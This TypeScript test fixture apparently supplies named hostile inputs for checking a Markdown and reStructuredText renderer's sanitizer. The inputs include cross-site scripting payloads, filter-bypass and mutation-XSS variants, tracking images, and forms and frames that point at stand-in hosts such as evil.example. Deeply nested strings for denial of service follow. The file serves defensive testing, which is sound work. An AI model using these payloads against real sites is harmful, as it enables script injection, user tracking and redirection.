/** Descriptions that try to run, load, post or pass for something: Markdown and HTML, each with what it is called. */

/** After any of these ran, `window.__xss` would be there. */
export const hostileMarkdown: readonly (readonly [what: string, text: string])[] = [
  ["script", "<script>window.__xss=1</script>"],
  ["script in capitals with a slash", "<SCRIPT/x>window.__xss=1</SCRIPT >"],
  ["script broken by another", "<scr<script>ipt>window.__xss=1</scr</script>ipt>"],
  ["image that fails", "<img src=x onerror=window.__xss=1>"],
  ["image that fails, unquoted with slashes", "<img/src=x/onerror=window.__xss=1>"],
  ["svg that loads", "<svg onload=window.__xss=1><circle/></svg>"],
  [
    "svg animation",
    "<svg><a><animate attributeName=href values=javascript:window.__xss=1 /><text>x</text></a></svg>",
  ],
  ["svg script", "<svg><script>window.__xss=1</script></svg>"],
  ["javascript link", "[x](javascript:window.__xss=1)"],
  ["javascript link, entities", "[x](&#106;avascript:window.__xss=1)"],
  ["javascript link, tab inside", '<a href="java\tscript:window.__xss=1">x</a>'],
  ["javascript link, control character before", '<a href="\u0001javascript:window.__xss=1">x</a>'],
  ["javascript link, capitals", "[x](JaVaScRiPt:window.__xss=1)"],
  ["vbscript and data links", "[x](vbscript:x) [y](data:text/html,<script>window.__xss=1</script>)"],
  ["reference link", "[x]\n\n[x]: javascript:window.__xss=1"],
  ["autolink", "<javascript:window.__xss=1>"],
  [
    "mutation through math",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__xss=1&gt;'>",
  ],
  ["mutation through svg and style", "<svg></p><style><a id='</style><img src=1 onerror=window.__xss=1>'>"],
  ["noscript", "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'></noscript>"],
  ["template", "<template><img src=x onerror=window.__xss=1></template>"],
  ["style that imports", "<style>@import 'http://tracker.example/x.css';*{display:none}</style>"],
  ["style attribute", '<p style="position:fixed;inset:0;background:url(http://tracker.example/)">x</p>'],
  ["form", '<form action="/sign-out" method="post"><input name="csrf"><button>Go</button></form>'],
  ["button of another form", '<button form="search" formaction="http://evil.example/">Go</button>'],
  [
    "frames and objects",
    '<iframe src="http://evil.example/"></iframe><object data="x"></object><embed src="x">',
  ],
  ["srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  [
    "base and refresh",
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
  ],
  ["link element", '<link rel="stylesheet" href="http://evil.example/x.css">'],
  ["clobbering", '<a id="csrf"></a><img name="cookie"><form name="body" id="main"></form><p id="main"></p>'],
  [
    "handlers",
    '<details open ontoggle="window.__xss=1"><summary>x</summary></details><p onclick=window.__xss=1>x</p>',
  ],
  ["autofocus", "<input autofocus onfocus=window.__xss=1>"],
  [
    "audio and video",
    '<video src=x onerror=window.__xss=1></video><audio src="http://tracker.example/"></audio>',
  ],
  ["end of the page", "</div></main></body></html><script>window.__xss=1</script>"],
  ["comment that does not end", "<!-- <img src=x onerror=window.__xss=1>"],
  ["code fence with a tag for its language", "```<script>window.__xss=1</script>\nx\n```"],
  ["alt text", '![" onerror="window.__xss=1](http://tracker.example/a.png)'],
  ["title", `[x](https://ok.example "' onmouseover='window.__xss=1")`],
  [
    "images in every way",
    '![a](http://tracker.example/a.png) <img srcset="http://tracker.example/b.png 2x"> <picture><source srcset="http://tracker.example/c.png"></picture> <input type=image src="http://tracker.example/d.png"> <table background="http://tracker.example/e.png">',
  ],
  ["images as data", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["tabindex and accesskey", '<a href="https://ok.example/" tabindex="1" accesskey="s" target="_top">x</a>'],
  [
    "relative and scheme-relative links",
    "[a](/sign-out) [b](//evil.example/) [c](\\\\evil.example) [d](docs/x.md) [e](?q=1)",
  ],
];

/** The same for reStructuredText. */
export const hostileRst: readonly (readonly [what: string, text: string])[] = [
  [
    "raw html",
    "x\n\n.. raw:: html\n\n   <img src=x onerror=window.__xss=1>\n   <script>window.__xss=1</script>\n",
  ],
  ["javascript link", "`x <javascript:window.__xss=1>`_"],
  ["javascript target", "x_\n\n.. _x: javascript:window.__xss=1\n"],
  [
    "image that leads to a script",
    ".. image:: http://tracker.example/a.png\n   :target: javascript:window.__xss=1\n",
  ],
  [
    "role that is raw",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=window.__xss=1>`\n",
  ],
  ["class and name", '.. container:: x" onclick="window.__xss=1\n\n   y\n'],
  [
    "substitution",
    "|x|\n\n.. |x| image:: http://tracker.example/a.png\n   :alt: <script>window.__xss=1</script>\n",
  ],
];

/** Nested so deep, or so long, that a renderer may give up: it must do so soon. */
export const heavyMarkdown: readonly (readonly [what: string, text: string])[] = [
  ["quotes in quotes", ">".repeat(20_000)],
  ["elements in elements", "<div>".repeat(20_000)],
  ["opening brackets", "[".repeat(200_000)],
  ["stars", "*".repeat(200_000)],
  ["stars and words", "*a **b ".repeat(30_000)],
  ["backticks", "`".repeat(200_000)],
  ["lists in lists", "- ".repeat(20_000)],
  ["half links", "[a](".repeat(50_000)],
  ["half tags", "<a ".repeat(60_000)],
  ["entities", "&#".repeat(100_000)],
];
